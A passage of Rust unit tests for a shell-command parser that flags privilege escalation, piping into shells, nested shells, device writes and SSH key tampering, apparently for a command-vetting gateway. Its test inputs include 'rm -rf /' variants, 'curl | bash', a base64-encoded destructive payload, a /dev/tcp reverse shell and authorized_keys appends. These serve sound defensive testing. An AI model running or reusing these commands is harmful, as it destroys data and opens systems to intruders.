        check("nice -n5 rm", &["nice", "rm"], &[]);
        check("xargs rm", &["xargs", "rm"], &[]);
        check("xargs -0 -n 1 -I{} rm {}", &["xargs", "rm"], &[]);
        check("xargs", &["xargs"], &[]);
        check("nohup rm &", &["nohup", "rm"], &[Background]);
        check("exec -a x rm", &["exec", "rm"], &[]);
        check("builtin eval rm", &["builtin", "eval", "rm"], &[Eval]);
        check("time -p rm", &["time", "rm"], &[]);
        check("stdbuf -oL rm", &["stdbuf", "rm"], &[]);
        check("stdbuf -o L rm", &["stdbuf", "rm"], &[]);
        check("setsid -f rm", &["setsid", "rm"], &[]);
        check("busybox rm -rf /", &["busybox", "rm"], &[]);
        check("ionice -c 3 rm", &["ionice", "rm"], &[]);
        check("ionice -p 5", &["ionice"], &[]);
        check("chroot /mnt rm", &["chroot", "rm"], &[]);
        check(
            "env env env nice rm",
            &["env", "env", "env", "nice", "rm"],
            &[],
        );
        check(
            "find / -name x -exec rm -f {} \\; -execdir sh -c 'ls' \\;",
            &["find", "rm", "sh", "ls"],
            &[NestedShell],
        );
        let c = p("env A=1 B=2 rm x");
        assert_eq!(c.commands[1].assignments, ["A=1", "B=2"]);
        assert_eq!(c.commands[1].args, ["x"]);
    }

    #[test]
    fn privilege_changes() {
        check("sudo -u root rm", &["sudo", "rm"], &[Sudo]);
        check("sudo -nu root -- rm -rf /", &["sudo", "rm"], &[Sudo]);
        check("sudo --user=root rm", &["sudo", "rm"], &[Sudo]);
        check("sudo --user root rm", &["sudo", "rm"], &[Sudo]);
        check(
            "sudo PATH=/tmp rm",
            &["sudo", "rm"],
            &[Sudo, SensitiveVariable],
        );
        check("sudo -e /etc/passwd", &["sudo"], &[Sudo]);
        check("sudo -s", &["sudo"], &[Sudo, PipeToShell]);
        check("sudo -i", &["sudo"], &[Sudo, PipeToShell]);
        check("doas -u bob rm", &["doas", "rm"], &[Sudo]);
        check("pkexec rm", &["pkexec", "rm"], &[Sudo]);
        check("pkexec", &["pkexec"], &[Sudo, PipeToShell]);
        check("su", &["su"], &[Sudo, PipeToShell]);
        check("su - root", &["su"], &[Sudo, PipeToShell]);
        check("su -c 'rm -rf /' root", &["su", "rm"], &[Sudo, NestedShell]);
        check("su root -c 'rm -rf /'", &["su", "rm"], &[Sudo, NestedShell]);
        check(
            "su --command='rm -rf /'",
            &["su", "rm"],
            &[Sudo, NestedShell],
        );
        check("runuser -u bob -- rm", &["runuser", "rm"], &[Sudo]);
        check(
            "runuser -l bob -c rm",
            &["runuser", "rm"],
            &[Sudo, NestedShell],
        );
        check(
            "runuser bob -c rm",
            &["runuser", "rm"],
            &[Sudo, NestedShell],
        );
        check("sudo sudo rm", &["sudo", "sudo", "rm"], &[Sudo]);
        check("env sudo rm", &["env", "sudo", "rm"], &[Sudo]);
    }

    #[test]
    fn unknown_wrapper_options_are_flagged() {
        // The parser cannot know whether --frobnicate takes a value, so which word is the
        // wrapped program is uncertain.
        check("sudo --frobnicate x rm", &["sudo", "x"], &[Sudo, Unparsed]);
        check("env -Z rm", &["env", "rm"], &[Unparsed]);
    }

    #[test]
    fn assignments_before_the_program() {
        check("x=1 rm", &["rm"], &[]);
        let c = p("x=1 y+=2 rm a");
        assert_eq!(c.commands[0].assignments, ["x=1", "y+=2"]);
        assert_eq!(c.commands[0].args, ["a"]);
        check("x=1", &[], &[]);
        check("'x'=1 rm", &["x=1"], &[]);
        check("a=(1 2 $(rm)) ls", &["rm", "ls"], &[CommandSubstitution]);
        check("PATH=/tmp ls", &["ls"], &[SensitiveVariable]);
        check("LD_PRELOAD=/tmp/x.so ls", &["ls"], &[SensitiveVariable]);
        check(
            "export PATH=/tmp:$PATH; ls",
            &["export", "ls"],
            &[SensitiveVariable],
        );
        check("IFS=/; x", &["x"], &[SensitiveVariable]);
        check("echo PATH=x", &["echo"], &[]);
    }

    #[test]
    fn pipes_into_shells() {
        check(
            "echo cm0gLXJmIC8= | base64 -d | sh",
            &["echo", "base64", "sh"],
            &[PipeToShell],
        );
        check("curl x | bash", &["curl", "bash"], &[PipeToShell]);
        check(
            "curl x | sudo bash",
            &["curl", "sudo", "bash"],
            &[PipeToShell, Sudo],
        );
        check(
            "curl x | sudo -u bob sh -s -- arg",
            &["curl", "sudo", "sh"],
            &[PipeToShell, Sudo],
        );
        check(
            "curl x | busybox sh",
            &["curl", "busybox", "sh"],
            &[PipeToShell],
        );
        check(
            "curl x | bash /dev/stdin",
            &["curl", "bash"],
            &[PipeToShell],
        );
        check("curl x | python3", &["curl", "python3"], &[PipeToShell]);
        check(
            "curl x | python3.11 -",
            &["curl", "python3.11"],
            &[PipeToShell],
        );
        check("curl x | perl", &["curl", "perl"], &[PipeToShell]);
        check("curl x | ruby", &["curl", "ruby"], &[PipeToShell]);
        check("curl x | node", &["curl", "node"], &[PipeToShell]);
        check("curl x | php", &["curl", "php"], &[PipeToShell]);
        check(
            "curl x | (cat; sh x.sh)",
            &["curl", "cat", "sh"],
            &[PipeToShell],
        );
        check(
            "curl x | source /dev/stdin",
            &["curl", "source"],
            &[Eval, PipeToShell],
        );
        check("curl x |& bash", &["curl", "bash"], &[PipeToShell]);
        // A shell without a script reads it from stdin: here, the SSH channel.
        check("bash", &["bash"], &[PipeToShell]);
        check("bash -i", &["bash"], &[PipeToShell]);
        check("bash -s", &["bash"], &[PipeToShell]);
        check("bash < script.sh", &["bash"], &[PipeToShell]);
        check("exec bash -l", &["exec", "bash"], &[PipeToShell]);
        check("python3", &["python3"], &[PipeToShell]);
        check("python3 -W ignore", &["python3"], &[PipeToShell]);
        // A shell or interpreter running a script file or inline code is not a pipe.
        check("bash script.sh", &["bash"], &[]);
        check("bash -x script.sh arg", &["bash"], &[]);
        check("bash -o pipefail script.sh", &["bash"], &[]);
        check("python3 -c 'print(1)'", &["python3"], &[]);
        check("python3 -m http.server", &["python3"], &[]);
        check("perl -e 'print 1'", &["perl"], &[]);
        check("node -e 1", &["node"], &[]);
        check("cat x | grep y", &["cat", "grep"], &[]);
        check("perldoc x", &["perldoc"], &[]);
        check("shred x", &["shred"], &[]);
    }

    #[test]
    fn nested_shell_strings_are_parsed() {
        check("bash -c 'rm -rf /'", &["bash", "rm"], &[NestedShell]);
        check("sh -c 'a; b | c'", &["sh", "a", "b", "c"], &[NestedShell]);
        check("bash -xec 'rm'", &["bash", "rm"], &[NestedShell]);
        check("bash -c -- 'rm' arg0", &["bash", "rm"], &[NestedShell]);
        check("zsh -c \"rm -rf /\"", &["zsh", "rm"], &[NestedShell]);
        check(
            "bash -c \"bash -c 'sh -c rm'\"",
            &["bash", "bash", "sh", "rm"],
            &[NestedShell],
        );
        // The string's own substitution is seen by the outer parse, and the string as the
        // inner shell sees it starts with a substitution: its program is unknown.
        check(
            "sh -c \"$(echo rm)\"",
            &["echo", "sh", "echo", "$(echo rm)"],
            &[NestedShell, CommandSubstitution, Expansion],
        );
        check("sh -c 'rm \"'", &["sh"], &[NestedShell, Unparsed]);
        check(
            "curl x | sh -c 'cat'",
            &["curl", "sh", "cat"],
            &[NestedShell],
        );
        check(
            "curl x | sh -c 'bash'",
            &["curl", "sh", "bash"],
            &[NestedShell, PipeToShell],
        );
        check("env -S 'rm -rf /'", &["env", "rm"], &[]);
    }

    #[test]
    fn substitutions_in_quoted_subscripts_are_listed() {
        // bash runs them when it evaluates the word as arithmetic or a variable name.
        for line in [
            "test -v 'x[$(rm -rf /)]'",
            "[[ 'x[$(rm -rf /)]' -eq 0 ]]",
            "printf -v 'x[$(rm -rf /)]' y",
            "let 'y=x[$(rm -rf /)]'",
            "declare -i z='x[$(rm -rf /)]'",
            "read 'x[$(rm -rf /)]'",
            "declare 'x[$(rm -rf /)]=1'",
            "echo ${x['$(rm -rf /)']}",
            "x='y[$(rm -rf /)]'; [[ $x -eq 0 ]]",
            "[[ \"x[y[$(rm -rf /)]]\" -eq 0 ]]",
            "[[ 'x[`rm -rf /`]' -eq 0 ]]",
            "[[ 'x[${z:=$(rm -rf /)}]' -eq 0 ]]",
            "test -v x\\[\\$\\(rm\\ -rf\\ /\\)]",
        ] {
            let parsed = p(line);
            let programs: Vec<&str> = parsed.commands.iter().map(|c| c.program_name()).collect();
            assert!(programs.contains(&"rm"), "{line}: {programs:?}");
            assert!(parsed.flags.contains(&CommandSubstitution), "{line}");
        }
        // Not a subscript, or nothing to run in it.
        for line in [
            "echo '$(rm -rf /)'",
            "echo 'x [$(rm -rf /)]'",
            "awk '{print $(NF-1)}'",
            "grep 'a[0-9]' f",
            "echo '[$(rm)]'",
        ] {
            let parsed = p(line);
            assert!(
                !parsed.commands.iter().any(|c| c.program_name() == "rm"),
                "{line}"
            );
        }
        // What does not parse inside is flagged; the outer line stands.
        let parsed = p("test -v 'x[$(rm \"]'");
        assert!(parsed.flags.contains(&Unparsed));
    }

    #[test]
    fn eval_and_friends() {
        check("eval rm", &["eval", "rm"], &[Eval]);
        check("eval 'rm -rf' /", &["eval", "rm"], &[Eval]);
        check("eval \"$X\"", &["eval", "$X"], &[Eval, Expansion]);
        check("source x.sh", &["source"], &[Eval]);
        check(". x.sh", &["."], &[Eval]);
        check("trap 'rm -rf /' EXIT", &["trap", "rm"], &[Eval]);
        check("trap - EXIT", &["trap"], &[]);
        check("alias ls='rm -rf /'", &["alias", "rm"], &[Eval]);
    }

    #[test]
    fn command_substitutions() {
        // The program is the substitution's output: unknown, so flagged, and kept as
        // written after the commands of the substitution.
        check("`rm`", &["rm", "`rm`"], &[CommandSubstitution, Expansion]);
        check("$(rm)", &["rm", "$(rm)"], &[CommandSubstitution, Expansion]);
        check("echo $(rm -rf /)", &["rm", "echo"], &[CommandSubstitution]);
        check("echo \"$(rm)\"", &["rm", "echo"], &[CommandSubstitution]);
        check(
            "echo `echo \\`rm\\``",
            &["rm", "echo", "echo"],
            &[CommandSubstitution],
        );
        check(
            "echo $(echo $(rm))",
            &["rm", "echo", "echo"],
            &[CommandSubstitution],
        );
        check(
            "cat <(rm) >(ls)",
            &["rm", "ls", "cat"],
            &[CommandSubstitution],
        );
        check("echo ${x:-$(rm)}", &["rm", "echo"], &[CommandSubstitution]);
        check(
            "echo $((1 + $(rm)))",
            &["rm", "echo"],
            &[CommandSubstitution, ArithmeticEval],
        );
        check("echo $(( (1+2) * 3 ))", &["echo"], &[]);
        check("echo $( (rm) )", &["rm", "echo"], &[CommandSubstitution]);
        check(
            "echo $((rm) | cat)",
            &["rm", "cat", "echo"],
            &[CommandSubstitution],
        );
        check(
            "echo $(case x in a) rm;; esac)",
            &["rm", "echo"],
            &[CommandSubstitution],
        );
        check("echo $(# )\nrm\n)", &["rm", "echo"], &[CommandSubstitution]);
        check("echo '$(rm)' \"\\$(rm)\"", &["echo"], &[]);
        check("x=$(rm)", &["rm"], &[CommandSubstitution]);
        check("[[ $(rm) == x ]]", &["rm"], &[CommandSubstitution]);
    }

    #[test]
    fn separators_and_compound_commands() {
        check("a;rm", &["a", "rm"], &[]);
        check("a&&rm", &["a", "rm"], &[]);
        check("a||rm", &["a", "rm"], &[]);
        check("a|rm", &["a", "rm"], &[]);
        check("a&rm", &["a", "rm"], &[Background]);
        check("a\nrm", &["a", "rm"], &[]);
        check("a &&\n rm", &["a", "rm"], &[]);
        check("(rm)", &["rm"], &[]);
        check("((rm))", &[], &[ArithmeticEval]);
        check("((1 + 2))", &[], &[]);
        check("( (rm) )", &["rm"], &[]);
        check("{ rm; }", &["rm"], &[]);
        check("{ rm;}", &["rm"], &[]);
        check("! rm", &["rm"], &[]);
        check("if true; then rm; fi", &["true", "rm"], &[]);
        check(
            "if a; then b; elif c; then d; else e; fi",
            &["a", "b", "c", "d", "e"],
            &[],
        );
        check("for i in 1; do rm; done", &["rm"], &[]);
        check(
            "for i in $(ls); do rm \"$i\"; done",
            &["ls", "rm"],
            &[CommandSubstitution],
        );
        check("for i\ndo rm; done", &["rm"], &[]);
        check(
            "for ((i=0;i<3;i++)); do rm; done",
            &["rm"],
            &[ArithmeticEval],
        );
        check("for i in a b; { rm; }", &["rm"], &[]);
        check("while true; do rm; done", &["true", "rm"], &[]);
        check(
            "until false; do rm; done > /dev/null",
            &["false", "rm"],
            &[],
        );
        check(
            "case $x in a|b) rm;; (c) ls;& *) cat;;& esac",
            &["rm", "ls", "cat"],
            &[],
        );
        check("case x in\n esac", &[], &[]);
        check("f() { rm; }; f", &["rm", "f"], &[]);
        check("function f { rm; }", &["rm"], &[]);
        check("function f() ( rm )", &["rm"], &[]);
        check("[[ -f x && -d y || ( z ) ]] && rm", &["rm"], &[]);
        check("echo if then fi", &["echo"], &[]);
        check("'if' x", &["if"], &[]);
        check("select x in a; do rm; done", &["rm"], &[]);
    }

    #[test]
    fn expansions_in_the_program_name() {
        check("r*m", &["r*m"], &[Expansion]);
        check("/???/r?", &["r?"], &[Expansion]);
        check("[r]m", &["[r]m"], &[Expansion]);
        check("$PROG -rf", &["$PROG"], &[Expansion]);
        check("${PROG} -rf", &["${PROG}"], &[Expansion]);
        check("r$@m", &["r$@m"], &[Expansion]);
        check("rm${IFS}-rf${IFS}/", &[""], &[Expansion]);
        check("{rm,-rf,/}", &["}"], &[Expansion]);
        check("{a..z}m", &["{a..z}m"], &[Expansion]);
        check("'r*m'", &["r*m"], &[]);
        check("r\\*m", &["r*m"], &[]);
        // Expansions in arguments are fine: the program is known.
        check("rm $X *.txt {a,b}", &["rm"], &[]);
        check("find . -name '{}'", &["find"], &[]);
    }

    #[test]
    fn comments() {
        check("ls # rm", &["ls"], &[]);
        check("ls '#' rm", &["ls"], &[]);
        assert_eq!(p("ls '#' rm").commands[0].args, ["#", "rm"]);
        check("ls a#b", &["ls"], &[]);
        check("# rm", &[], &[]);
        check("ls #\nrm", &["ls", "rm"], &[]);
        check("ls \\# rm", &["ls"], &[]);
    }

    #[test]
    fn redirections() {
        check("echo > /dev/sda", &["echo"], &[DeviceRedirect]);
        check("echo >/dev/sda1", &["echo"], &[DeviceRedirect]);
        check("echo 2>> //dev/./sda", &["echo"], &[DeviceRedirect]);
        check("echo > /dev/../dev/mem", &["echo"], &[DeviceRedirect]);
        check("echo &> /dev/sda", &["echo"], &[DeviceRedirect]);
        check("{ echo; } > /dev/sda", &["echo"], &[DeviceRedirect]);
        check("> /dev/sda", &[], &[DeviceRedirect]);
        check("echo > /dev/null 2>&1", &["echo"], &[]);
        check("echo > /dev/stderr 1>&2 >&- </dev/zero", &["echo"], &[]);
        check("echo > /dev/fd/2", &["echo"], &[]);
        check("cat < /dev/sda", &["cat"], &[]);
        check(
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            &["bash"],
            &[PipeToShell, DeviceRedirect],
        );
        check("cat < /dev/tcp/h/80", &["cat"], &[DeviceRedirect]);
        check("dd if=x of=/dev/sda bs=1M", &["dd"], &[DeviceRedirect]);
        check("dd if=/dev/sda of=/tmp/x", &["dd"], &[]);
        check(
            "echo x | sudo tee /dev/sda",
            &["echo", "sudo", "tee"],
            &[Sudo, DeviceRedirect],
        );
        let c = p("cmd 2>>log <in 3<>f >|g &>>h {fd}>x");
        let ops: Vec<(&str, &str)> = c.commands[0]
            .redirects
            .iter()
            .map(|r| (r.op.as_str(), r.target.as_str()))
            .collect();
        assert_eq!(
            ops,
            [
                ("2>>", "log"),
                ("<", "in"),
                ("3<>", "f"),
                (">|", "g"),
                ("&>>", "h"),
                ("{fd}>", "x")
            ]
        );
        assert_eq!(c.commands[0].args, Vec::<String>::new());
        check("echo 2 > x", &["echo"], &[]);
        assert_eq!(p("echo 2 > x").commands[0].args, ["2"]);
    }

    #[test]
    fn authorized_keys() {
        check(
            "cat k >> ~/.ssh/authorized_keys",
            &["cat"],
            &[AuthorizedKeys],
        );
        check(
            "cat k >> ~/.ssh/authorized_keys2",
            &["cat"],
            &[AuthorizedKeys],
        );
        check(
            "cp k /root/.ssh/'authorized'_keys",
            &["cp"],
            &[AuthorizedKeys],
        );
        check(
            "echo k | tee -a .ssh/authorized_keys",
            &["echo", "tee"],
            &[AuthorizedKeys],
        );
        check("cat k > ~/.ssh/config", &["cat"], &[AuthorizedKeys]);
        check("cat k >> ~/.ssh/authorized_k*", &["cat"], &[AuthorizedKeys]);
        check("cat k >> ~/.s*/x", &["cat"], &[AuthorizedKeys]);
        check("cat ~/.ssh/config", &["cat"], &[]);
        check("ls *", &["ls"], &[]);
        check("ls a*", &["ls"], &[]);
    }

    #[test]
    fn heredocs() {
        check("cat <<EOF\nrm -rf /\nEOF\nls", &["cat", "ls"], &[]);
        check("cat <<'EOF'\n$(rm)\nEOF", &["cat"], &[]);
        check(
            "cat <<EOF\n$(rm)\nEOF",
            &["rm", "cat"],
            &[CommandSubstitution],
        );
        check("cat <<-EOF\n\trm\n\tEOF\nls", &["cat", "ls"], &[]);
        check("cat <<A <<B\na\nA\nb\nB\nls", &["cat", "ls"], &[]);
        check("cat <<EOF | sh\nx\nEOF", &["cat", "sh"], &[PipeToShell]);
        check("cat <<EOF; ls\nbody\nEOF\nrm", &["cat", "ls", "rm"], &[]);
        // The body goes to a shell: it is its script.
        check("bash <<EOF\nrm -rf /\nEOF", &["bash", "rm"], &[PipeToShell]);
        check(
            "bash <<'EOF' | cat\nrm -rf /\nEOF",
            &["bash", "cat", "rm"],
            &[PipeToShell],
        );
        check(
            "sudo sh <<< 'rm -rf /'",
            &["sudo", "sh", "rm"],
            &[Sudo, PipeToShell],
        );
        // A body is read at the next newline of the level that declared it (as bash and
        // dash do), so a newline inside $(…) does not start it.
        check(
            "cat <<EOF; echo $(\nrm\nEOF\n)\nafter\nEOF",
            &["cat", "rm", "EOF", "echo"],
            &[CommandSubstitution],
        );
        check("cat <<EOF\nnever terminated", &["cat"], &[]);
        let c = p("cat <<EOF\nx\nEOF");
        assert_eq!(c.commands[0].redirects[0].op, "<<");
        assert_eq!(c.commands[0].redirects[0].target, "EOF");
    }

    #[test]
    fn empty_and_blank_lines() {
        check("", &[], &[]);
        check("   \t ", &[], &[]);
        check("\n\n", &[], &[]);
    }

    #[test]
    fn errors() {
        assert!(matches!(
            parse("echo 'abc"),
            Err(CommandError::Unterminated {
                what: "single quote",
                offset: 5
            })
        ));
        assert!(matches!(
            parse("echo \"abc"),
            Err(CommandError::Unterminated {
                what: "double quote",
                ..
            })
        ));
        assert!(matches!(
            parse("echo $(ls"),
            Err(CommandError::Unterminated { .. })
        ));
        assert!(matches!(
            parse("echo `ls"),
            Err(CommandError::Unterminated { .. })
        ));
        assert!(matches!(
            parse("echo ${x"),
            Err(CommandError::Unterminated { .. })
        ));
        assert!(matches!(
            parse("echo $'x"),
            Err(CommandError::Unterminated { .. })
        ));
        assert!(matches!(parse("echo a\0b"), Err(CommandError::NulByte(6))));
        assert!(matches!(
            parse("if true; then rm"),
            Err(CommandError::Syntax { .. })
        ));
        assert!(matches!(parse("rm )"), Err(CommandError::Syntax { .. })));
        assert!(matches!(parse("; rm"), Err(CommandError::Syntax { .. })));
        assert!(matches!(parse("a |"), Err(CommandError::Syntax { .. })));
        assert!(matches!(parse("echo >"), Err(CommandError::Syntax { .. })));
        assert!(matches!(parse("fi"), Err(CommandError::Syntax { .. })));
        assert!(matches!(parse("(ls"), Err(CommandError::Syntax { .. })));
        // A backquoted text that does not parse makes the line fail: it is part of it.
        assert!(parse("echo `'`").is_err());
        // What a shell in a BIG5, GBK or Shift JIS locale reads otherwise (`[e2 82][ac 5c]`).
        assert_eq!(
            parse("echo \u{20ac}\\; rm -rf /"),
            Err(CommandError::LocaleDependent(8))
        );
        assert_eq!(
            parse("echo \u{e9}`id`"),
            Err(CommandError::LocaleDependent(7))
        );
        // In a nested text too, however it was written there; an escaped newline as well.
        for line in [
            "sh -c $'\\xe2\\x82\\xac\\\\; rm -rf /'",
            "bash -c \"echo \u{20ac}\\\\; rm\"",
            "eval 'echo \u{20ac}\\\n rm'",
        ] {
            assert!(
                matches!(parse(line), Err(CommandError::LocaleDependent(_))),
                "{line}: {:?}",
                parse(line)
            );
        }
        // Non-ASCII text elsewhere is read as ever.
        check(
            "echo '\u{20ac}' \\; \u{e9}t\u{e9} | wc",
            &["echo", "wc"],
            &[],
        );
        let long = "a".repeat(MAX_LINE_BYTES + 1);
        assert_eq!(
            parse(&long),
            Err(CommandError::TooLong {
                len: MAX_LINE_BYTES + 1,
                max: MAX_LINE_BYTES
            })
        );
        let amplified = "eval ".repeat(3) + &"x ".repeat(30_000);
        assert_eq!(
            parse(&amplified),
            Err(CommandError::TooManyWords(MAX_WORDS))
        );
        assert!(parse(&"x ".repeat(30_000)).is_ok());
        let e = parse("echo 'x").unwrap_err().to_string();
        assert_eq!(e, "unterminated single quote starting at offset 5");
    }

    #[test]
    fn nesting_is_bounded() {
        let ok = format!(
            "{}rm{}",
            "( ".repeat(MAX_DEPTH - 1),
            " )".repeat(MAX_DEPTH - 1)
        );
        assert_eq!(names(&ok), ["rm"]);
        for deep in [
            format!(
                "{}rm{}",
                "( ".repeat(MAX_DEPTH + 1),
                " )".repeat(MAX_DEPTH + 1)
            ),
            format!(
                "{}rm{}",
                "$(".repeat(MAX_DEPTH + 1),
                ")".repeat(MAX_DEPTH + 1)
            ),
            format!(
                "{}rm{}",
                "{ ".repeat(MAX_DEPTH + 1),
                "; }".repeat(MAX_DEPTH + 1)
            ),
            format!("{}rm", "env ".repeat(MAX_DEPTH + 1)),
            format!("{}rm", "eval ".repeat(MAX_DEPTH + 1)),
            format!(
                "{}rm{}",
                "${x:-".repeat(MAX_DEPTH + 1),
                "}".repeat(MAX_DEPTH + 1)
            ),
            "if true; then ".repeat(MAX_DEPTH + 1),
        ] {
            assert_eq!(
                parse(&deep),
                Err(CommandError::TooDeep(MAX_DEPTH)),
                "{deep:.40}"
            );
        }
        // Depth counts across nested texts, and a nested text that is too deep fails the
        // whole line (it does not merely set `unparsed`).
        let inner = |n: usize| format!("sh -c '{}rm{}'", "( ".repeat(n), " )".repeat(n));
        assert_eq!(names(&inner(MAX_DEPTH - 2)), ["sh", "rm"]);
        assert_eq!(
            parse(&inner(MAX_DEPTH)),
            Err(CommandError::TooDeep(MAX_DEPTH))
        );
        let mut line = "rm".to_string();
        for _ in 0..6 {
            line = format!("sh -c {}", shell_quote(&line));
        }
        assert_eq!(names(&line), ["sh", "sh", "sh", "sh", "sh", "sh", "rm"]);
    }

    fn shell_quote(s: &str) -> String {
        format!("'{}'", s.replace('\'', "'\\''"))
    }

    #[test]
    fn large_inputs_take_linear_time() {
        let n = MAX_LINE_BYTES;
        let lines = [
            "a;".repeat(n / 2),
            "a|".repeat(n / 2 - 1) + "a",
            "x ".repeat(n / 2),
            "$(".repeat(20) + &"a ".repeat(n / 2 - 40) + &")".repeat(20),
            "echo ".to_string()
                + &"$((".repeat(10)
                + &"1+".repeat(n / 2 - 100)
                + "1"
                + &"))".repeat(10),
            "cat <<a ".repeat(n / 8 - 1) + "\n",
            "env ".repeat(30) + &"x ".repeat(n / 2 - 200),
            "eval ".repeat(30) + &"x ".repeat(n / 2 - 200),
            "sh -c ".to_string() + &"'a;'".repeat(n / 4 - 10),
            "echo ".to_string() + &"{a,".repeat(n / 4 - 10),
            "[[ ".to_string() + &"a && ".repeat(n / 5 - 10) + "]]",
            "echo $(".to_string() + &"cat <<a\n".repeat(n / 8 - 10) + ")",
            "echo ".to_string() + &"x[".repeat(n / 2 - 10),
            "echo '".to_string() + &"x[$(".repeat(n / 4 - 10) + "'",
            "echo ".to_string() + &"x[$(echo ".repeat(30) + &")]".repeat(30),
            "echo ".to_string() + &"'x[$(echo ".repeat(15) + &")]'".repeat(15),
        ];
        for line in lines {
            assert!(line.len() <= MAX_LINE_BYTES, "{}", line.len());
            let start = std::time::Instant::now();
            let _ = parse(&line);
            assert!(
                start.elapsed().as_secs_f64() < 2.0,
                "{:.40}: {:?}",
                line,
                start.elapsed()
            );
        }
    }

    #[test]
    fn arbitrary_input_never_panics() {
        // A cheap deterministic fuzz over shell metacharacters; the fuzz target does more.
        let alphabet: &[&str] = &[
            "a", " ", "\n", ";", "&", "|", "(", ")", "{", "}", "<", ">", "<<", "'", "\"", "\\",
            "$", "$(", "${", "$((", "`", "#", "*", "[", "]", "if", "then", "fi", "case", "in",
            "esac", "do", "done", "for", "sh -c", "sudo", "env", "=", "EOF", "\t", "$'", "!", "[[",
            "]]", ";;", "2>", "&>", "<(", "=(",
        ];
        let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
        for _ in 0..20_000 {
            let mut line = String::new();
            let len = (state >> 59) as usize + 1;
            for _ in 0..len * 2 {
                state = state
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                line.push_str(alphabet[(state >> 33) as usize % alphabet.len()]);
            }
            let _ = parse(&line);
        }
    }

    #[test]
    fn flags_serialise_in_snake_case() {
        assert_eq!(
            serde_json::to_string(&PipeToShell).unwrap(),
            "\"pipe_to_shell\""
        );
        assert_eq!(
            serde_json::to_string(&AuthorizedKeys).unwrap(),
            "\"authorized_keys\""
        );
        let f: CommandFlag = serde_json::from_str("\"command_substitution\"").unwrap();
        assert_eq!(f, CommandSubstitution);
        let c = p("sudo rm > /dev/sda");
        let json = serde_json::to_value(&c).unwrap();
        assert_eq!(
            json["flags"],
            serde_json::json!(["sudo", "device_redirect"])
        );
        assert_eq!(json["commands"][1]["program"], "rm");
        let back: CommandLine = serde_json::from_value(json).unwrap();
        assert_eq!(back, c);
    }

    #[test]
    fn glob_matching() {
        assert!(glob_match("rm", "rm"));
        assert!(!glob_match("rm", "rmdir"));
        assert!(glob_match("*", ""));
        assert!(glob_match("*", "/a/b"));
        assert!(glob_match("/etc/*", "/etc/ssh/sshd_config"));
        assert!(glob_match("py*", "python3"));
        assert!(glob_match("?m", "rm"));
        assert!(!glob_match("?m", "m"));
        assert!(glob_match("[abc]x", "bx"));
        assert!(!glob_match("[abc]x", "dx"));
        assert!(glob_match("[a-z]*", "q1"));
        assert!(!glob_match("[!a-z]*", "q1"));
        assert!(glob_match("[^a-z]*", "Q1"));
        assert!(glob_match("[]]", "]"));
        assert!(glob_match("[!]]", "a"));
        assert!(glob_match("[a-]", "-"));
        assert!(glob_match("[[:digit:]][[:alpha:]]", "1x"));
        assert!(glob_match("\\*", "*"));
        assert!(!glob_match("\\*", "a"));
        assert!(glob_match("a\\", "a\\"));
        assert!(glob_match("[ab", "[ab"));
        assert!(glob_match("*a*b*c*", "xxaxxbxxcxx"));
        assert!(!glob_match("*a*b*c*d", "xxaxxbxxcxx"));
        assert!(glob_match("é?", "éé"));
        assert!(glob_match("--force*", "--force-yes"));
        // Pathological patterns stay fast.
        let text = "a".repeat(10_000);
        let pattern = "*a".repeat(50) + "b";
        let start = std::time::Instant::now();
        assert!(!glob_match(&pattern, &text));
        assert!(start.elapsed().as_secs_f64() < 2.0);
    }

    #[test]
    fn program_name_of_odd_programs() {
        let c = SimpleCommand {
            program: "/usr/bin/".into(),
            ..Default::default()
        };
        assert_eq!(c.program_name(), "");
        assert_eq!(names("''"), [""]);
        assert_eq!(flags("''"), []);
    }

    #[test]
    fn a_non_ascii_byte_before_any_structural_punctuation_is_refused() {
        // In BIG5, `€}` (`e2 82 ac 7d`) is `[e2 82][ac 7d]`: the `${…}` runs on over what a
        // byte-wise reading takes for a single-quoted literal, and its `$(…)` runs.
        assert_eq!(
            parse("echo \"${x:-\u{20ac}}\"'$(touch /tmp/p)'\"}\""),
            Err(CommandError::LocaleDependent(14))
        );
        for c in ['@', '[', '\\', ']', '^', '`', '{', '|', '}', '~'] {
            let line = format!("echo \u{e9}{c} x");
            assert_eq!(
                parse(&line),
                Err(CommandError::LocaleDependent(7)),
                "{line}"
            );
        }
        assert!(matches!(
            parse("sh -c $'echo \\xe2\\x82\\xac{ x'"),
            Err(CommandError::LocaleDependent(_))
        ));
        let e = parse("echo \u{e9}|x").unwrap_err().to_string();
        assert!(e.contains("@[\\]^`{|}~") && e.contains("locale"), "{e}");
        // Letters, digits, `_` and the other ASCII bytes never end such a character in a way
        // that changes where a word, quote or expansion ends.
        check(
            "echo \u{e9}a \u{e9}_ \u{e9}1 \u{e9}; echo \u{e9}'x' \u{e9}\"y\" \u{e9}$HOME \u{e9}# x",
            &["echo", "echo"],
            &[],
        );
    }

    #[test]
    fn arithmetic_on_values_the_gateway_cannot_see_is_flagged() {
        // bash evaluates a variable's value as an expression, and an array subscript in that
        // value runs its command substitutions: these all run the touch.
        for line in [
            "echo $(( a${x:-[}\\$(touch /tmp/p)] ))",
            "test -v \"a${x:-[}\\$(touch /tmp/p)]\"",
            "b='[$(touch /tmp/p)]'; c=a$b; echo $((c))",
            "((x))",
            "for ((i = 0; i < n; i++)); do :; done",
            "echo $[x]",
            "echo $[ 1 + $y ]",
            "let i++",
            "let \"a = $b\"",
            "echo ${s:i}",
            "echo ${s:1:$n}",
            "echo \"${a[i]}\"",
            "echo ${#a[$k]}",
            "echo ${!x}",
            "echo ${!x:-d}",
            "a[i]=1",
            "a[$k]=1 true",
            "declare a[$k]=1",
            "declare -i n=$x",
            "local -i n=m",
            "declare -n r=$x",
            "a=([i]=1)",
            "declare -a a=(x [$k]=1)",
            "a+=([1]=x [j]+=y) true",
            "[[ $x -eq 0 ]]",
            "[[ 1 -lt y ]]",
            "[[ $#x -lt 1 ]]",
            "[[ ${#x}y -lt 1 ]]",
            "[[ ${#x[1]} -lt 1 ]]",
            "[[ -v $n ]]",
            "[[ -v a[i] ]]",
            "test -v \"$n\"",
            "[ -v a[i] ]",
            "unset \"$n\"",
            "unset 'a[i]'",
            "printf -v \"$n\" x",
            "printf -va[i] x",
            "read \"$n\"",
            "read -a \"$n\"",
            "read -p x 'a[i]'",
            "mapfile -t \"$n\" < f",
            "wait -p \"$n\"",
        ] {
            assert!(p(line).flags.contains(&ArithmeticEval), "{line}");
        }
        check(
